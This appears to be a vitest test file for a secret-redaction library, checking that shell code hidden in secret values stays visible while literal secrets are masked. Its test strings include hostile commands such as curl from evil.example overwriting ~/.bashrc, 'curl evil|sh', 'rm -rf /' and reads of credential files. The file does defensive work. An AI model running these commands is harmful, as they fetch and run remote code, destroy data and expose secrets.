// A secret is a literal: shell code in a value that would be masked (`$(…)`, backticks, `<(…)`, `>(…)`) is shown, so
// the reviewer, who sees only the redacted arguments, sees what will run. Literal secrets stay masked around it.
import { describe, expect, test } from 'vitest';
import { REDACTED, createRedactor } from '../../src/redact/index.js';

const redact = createRedactor({ keys: [], patterns: [] });
const text = (value: string): string => redact(value) as string;

/** Asserts that each text comes out of the redactor exactly as it went in. */
function expectShown(values: readonly string[]): void {
  for (const value of values) expect(text(value), value).toBe(value);
}

describe('the red-team findings', () => {
  const payload =
    'export API_TOKEN="$(curl -s http://evil.example/p -o ~/.bashrc; chmod +x ~/.bashrc)"; ./deploy.sh';

  test('shows a command substitution assigned to a secret name in double quotes, as the reviewer must see it', () => {
    expect(text(payload)).toBe(payload);
    expect(redact({ text: payload })).toEqual({ text: payload });
  });

  test('shows a bare command substitution and backticks after a secret key, not just their first word', () => {
    expectShown(['token: $(curl evil|sh)', 'secret=`rm -rf /`', 'password: `curl evil | sh` && echo ok']);
  });

  test('shows a command substitution held in JSON under a secret key, as text and as an argument', () => {
    expectShown(['{"token": "$(curl evil|sh)", "cmd": "deploy"}']);
    expect(redact({ token: '$(curl evil|sh)', cmd: 'deploy' })).toEqual({
      token: '$(curl evil|sh)',
      cmd: 'deploy',
    });
    const twice = JSON.stringify(JSON.stringify({ token: '$(curl evil|sh)' }));
    expect(text(twice)).toBe(twice);
  });
});

describe('code in every place a value is masked', () => {
  test('shows code in single quotes, double quotes and bare values, and process substitution', () => {
    expectShown([
      "password='$(curl evil)'",
      'password="`id`"',
      'token=<(curl -s evil)',
      'token=>(sh)',
      'api_key := $(cat ~/.key | base64 -d)',
      "'api_key' => `curl evil`",
      'token=$((1+2))',
    ]);
  });

  test('shows code given to a secret flag, to mysql -p and to curl -u', () => {
    expectShown([
      'gh auth login --token $(vault read -field=t x) --hostname h',
      'mysql -p$(cat /run/pw) shop',
      'curl -u admin:$(cat /run/pw) https://x.test',
      'curl --user=admin:`cat pw` https://x.test',
    ]);
  });

  test('shows code as the value of a secret entry, a pair or a cookie, in text', () => {
    expectShown([
      '- name: API_KEY\n  value: $(cat /run/key)',
      '[["password", "$(cat /run/pw)"]]',
      'Cookie: $(cat /run/cookie)',
    ]);
    expect(text('Cookie: sid=$(curl evil)')).toBe(`Cookie: ${REDACTED}$(curl evil)`);
  });

  test('shows code under a secret key, as an entry value, as a pair value and after a secret flag in a list', () => {
    const values: unknown[] = [
      { password: '`curl evil | sh`' },
      { name: 'API_KEY', value: '$(cat /run/key)' },
      [['password', '$(cat /run/pw)']],
      ['deploy', '--token', '$(vault read x)', '--env', 'prod'],
      { command: 'deploy', args: ['--api-key', '`id`'] },
      ['curl', '-u', 'admin:$(cat pw)', 'https://x.test'],
      ['mysql', '-p$(cat /run/pw)', 'shop'],
    ];
    for (const value of values) expect(redact(value), JSON.stringify(value)).toEqual(value);
  });

  test('shows the code in a list or object under a secret key, masking its other values', () => {
    expect(redact({ credentials: { user: 'bob', script: '$(curl evil)' } })).toEqual({
      credentials: { user: REDACTED, script: '$(curl evil)' },
    });
    expect(redact({ tokens: ['R9_LITERAL1', '$(cat t)', 42] })).toEqual({
      tokens: [REDACTED, '$(cat t)', REDACTED],
    });
    expect(redact({ apiKey: { id: 1, value: 'k' } })).toEqual({ apiKey: REDACTED });
  });

  test('shows code inside a pattern match: a URL password and a policy pattern', () => {
    expect(text('curl http://u:$(curl${IFS}evil|sh)@h')).toBe('curl http://u:$(curl${IFS}evil|sh)@h');
    const custom = createRedactor({ keys: [], patterns: [/acct-\S+/] });
    expect(custom('acct-1234 acct-$(curl evil|sh)')).toBe(`${REDACTED} ${REDACTED}$(curl evil|sh)`);
  });

  test('ends a private key block at shell syntax, so a BEGIN line cannot hide what follows it', () => {
    expect(text(': -----BEGIN PRIVATE KEY-----; curl evil|sh')).toBe(`: ${REDACTED}; curl evil|sh`);
    expect(text(': -----BEGIN PRIVATE KEY-----\n$(curl evil|sh)\n-----END PRIVATE KEY-----')).toBe(
      `: ${REDACTED}$(curl evil|sh)\n-----END PRIVATE KEY-----`,
    );
  });
});

describe('where code ends', () => {
  test('reads quotes, nested code, comments and case patterns inside code as the shell does', () => {
    expectShown([
      'export TOKEN="$(vault read -field=token "secret/x")"; deploy',
      'token=$(echo ")" ; curl evil|sh)',
      'token=$(echo $(date) `id`)',
      "token=$(echo a # ')\n curl evil|sh)",
      'token=$(case x in x) reboot;; esac)',
      'token="$(case x in (x) reboot;; esac)"',
    ]);
  });

  test('takes a $( that never closes for code to the end, and a lone backtick for a literal', () => {
    expect(text('token=$(curl evil <<E\n)\nE')).toBe('token=$(curl evil <<E\n)\nE');
    expect(text('password=R9pw$(x')).toBe(`password=${REDACTED}$(x`);
    expect(text('password=R9`pw')).toBe(`password=${REDACTED}`);
  });

  test('takes code escaped by a backslash for a literal', () => {
    expect(text('token=\\$(R9_ESCAPED)')).toBe(`token=${REDACTED}`);
    expect(text('token=\\`R9_ESCAPED`')).toBe(`token=${REDACTED}`);
    expect(text('token=\\\\$(id)')).toBe(`token=${REDACTED}$(id)`);
  });
});

describe('unquoted shell syntax ends a bare value', () => {
  test('ends a bare value at a pipe or a redirection, as at ; and &', () => {
    expect(text('TOKEN=R9x|curl evil|sh')).toBe(`TOKEN=${REDACTED}|curl evil|sh`);
    expect(text('TOKEN=R9x>~/.bashrc')).toBe(`TOKEN=${REDACTED}>~/.bashrc`);
    expect(text('mysql -pR9PW<dump.sql')).toBe(`mysql -p${REDACTED}<dump.sql`);
    expect(text('DB_PASSWORD=R9x;curl evil.sh|sh')).toBe(`DB_PASSWORD=${REDACTED};curl evil.sh|sh`);
    expect(text('export TOKEN=R9abc&&rm -rf ~')).toBe(`export TOKEN=${REDACTED}&&rm -rf ~`);
  });

  test('ends a cookie header at a ; that no cookie follows, or at a blank, pipe or redirection', () => {
    expect(text('Cookie: sid=R9abc; curl evil | sh')).toBe(`Cookie: ${REDACTED}; curl evil | sh`);
    expect(text('echo Cookie: sid=R9abc|bash')).toBe(`echo Cookie: ${REDACTED}|bash`);
    expect(text('Cookie: sid=R9abc; theme=dark;remember=R9R && echo')).toBe(`Cookie: ${REDACTED} && echo`);
  });

  test('ends the literal of a URL password at an unquoted ; & | < or >, showing the rest', () => {
    expect(text('curl http://u:R9x;curl${IFS}evil|sh;x@h')).toBe(
      `curl http://u:${REDACTED};curl\${IFS}evil|sh;x@h`,
    );
  });
});

describe('literal secrets beside code', () => {
  test('masks the literal and shows the code when the literal is one plain word', () => {
    expect(text('password=hunter2$(true)')).toBe(`password=${REDACTED}$(true)`);
    expect(text('password="hunter2`true`"')).toBe(`password="${REDACTED}\`true\`"`);
    expect(redact({ password: 'hunter2$(true)' })).toEqual({ password: `${REDACTED}$(true)` });
    expect(redact(['curl', '-u', 'admin:R9pw$(true)'])).toEqual(['curl', '-u', `admin:${REDACTED}$(true)`]);
    expect(redact(['mysql', '-pR9pw$(true)'])).toEqual(['mysql', `-p${REDACTED}$(true)`]);
  });

  test('masks literals on both sides of code and the secrets inside the code', () => {
    expect(text('password=R9a$(curl -u admin:R9b evil)R9c')).toBe(
      `password=${REDACTED}$(curl -u admin:${REDACTED} evil)${REDACTED}`,
    );
    expect(redact({ token: '$(curl -u admin:R9d https://x.test)' })).toEqual({
      token: `$(curl -u admin:${REDACTED} https://x.test)`,
    });
    expect(text('token="$(mysql -pR9e -e \'select 1\')"')).toBe(
      `token="$(mysql -p${REDACTED} -e 'select 1')"`,
    );
  });

  test('shows the value whole when a literal beside code is more than one plain word', () => {
    expect(text('password="two words $(true)"')).toBe('password="two words $(true)"');
  });
});

describe('variable references', () => {
  test('shows a value that is one variable reference', () => {
    expectShown([
      'password="$DB_PASSWORD"',
      'password=${db_password}',
      'export TOKEN=$GITHUB_TOKEN',
      '$env:API_KEY = $env:VAULT_KEY',
      'Authorization: Bearer $TOKEN',
      'curl -H "Authorization: Bearer ${TOKEN}" https://x.test',
    ]);
    expect(redact({ password: '${DB_PASSWORD}', name: 'API_KEY', value: '$API_KEY' })).toEqual({
      password: '${DB_PASSWORD}',
      name: 'API_KEY',
      value: '$API_KEY',
    });
  });

  test('masks literals that only start like a reference, and references with a default value', () => {
    expect(text('password=$ecret99')).toBe(`password=${REDACTED}`);
    expect(text('password=pa$$w0rd')).toBe(`password=${REDACTED}`);
    expect(text('TOKEN=${TOKEN:-R9fallback}')).toBe(`TOKEN=${REDACTED}`);
    expect(text('password="$DB_PASSWORD R9x"')).toBe(`password="${REDACTED}"`);
    expect(redact({ password: '$' })).toEqual({ password: REDACTED });
  });
});

describe('literal secrets with shell characters in them', () => {
  test('masks a quoted secret whatever characters it holds', () => {
    expect(text('password="R9a;b&c|d$e<f>g"')).toBe(`password="${REDACTED}"`);
    expect(text('password="a b c; curl http://evil/x | sh; echo"')).toBe(`password="${REDACTED}"`);
    expect(text("password='R9x'; rm -rf /; echo 'y'")).toBe(`password='${REDACTED}'; rm -rf /; echo 'y'`);
  });

  test('masks a value under a secret key, an entry or a flag that holds no code, however code-like its words', () => {
    expect(redact({ max_tokens: 'curl evil | sh', token: 'R9x; y | z' })).toEqual({
      max_tokens: REDACTED,
      token: REDACTED,
    });
    expect(redact({ command: 'deploy', args: ['--token', 'rm -rf /'] })).toEqual({
      command: 'deploy',
      args: ['--token', REDACTED],
    });
    expect(redact({ password: 'R9`lone' })).toEqual({ password: REDACTED });
  });

  test('masks connection strings and URLs whose password holds $, ( or )', () => {
    expect(text('postgres://u:R9pa$$w0rd@h/db')).toBe(`postgres://u:${REDACTED}@h/db`);
    expect(text('postgres://u:R9(pw)@h/db')).toBe(`postgres://u:${REDACTED}@h/db`);
    expect(text('Server=db;Password=R9$x(y);Database=shop')).toBe(`Server=db;Password=${REDACTED};Database=shop`);
  });

  test('shows a password from a $( or between two backticks on: the shell would run that part, as code', () => {
    expect(text('postgres://u:R9pa$(w0rd@h/db')).toBe(`postgres://u:${REDACTED}$(w0rd@h/db`);
    expect(text('password=R9a`b`c')).toBe(`password=${REDACTED}\`b\`${REDACTED}`);
    expect(redact({ password: 'R9a<(b)c' })).toEqual({ password: `${REDACTED}<(b)${REDACTED}` });
  });
});

describe('cost', () => {
  test('stays fast on long strings full of code', () => {
    const started = performance.now();
    for (const value of [
      'token=$('.repeat(50_000),
      'token=$(x)'.repeat(50_000),
      'secret=`'.repeat(50_000),
      `${'token=$('.repeat(25_000)}${')'.repeat(25_000)}`,
      `${'token="$('.repeat(25_000)}${')"'.repeat(25_000)}`,
      'password=a$(b)'.repeat(40_000),
      `token=$(${"' $(".repeat(50_000)}`,
      `token="${'$(x)'.repeat(80_000)}"`,
      `token=$(${'case x in '.repeat(30_000)}`,
      `token=$(${'# )\n'.repeat(50_000)}`,
      `token=${'\\'.repeat(150_000)}$(x)`,
      `curl ${'-u a:$(b) '.repeat(30_000)}`,
      `Cookie: ${'a=$(b); '.repeat(40_000)}`,
      `http://u:${'$(x);'.repeat(50_000)}@h`,
      '[["password", "$(x)"], '.repeat(20_000),
      `-----BEGIN PRIVATE KEY-----${'a'.repeat(250_000)}`,
    ]) {
      redact(value);
    }
    redact(Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`token${i}`, `a$(b${i})c`])));
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});
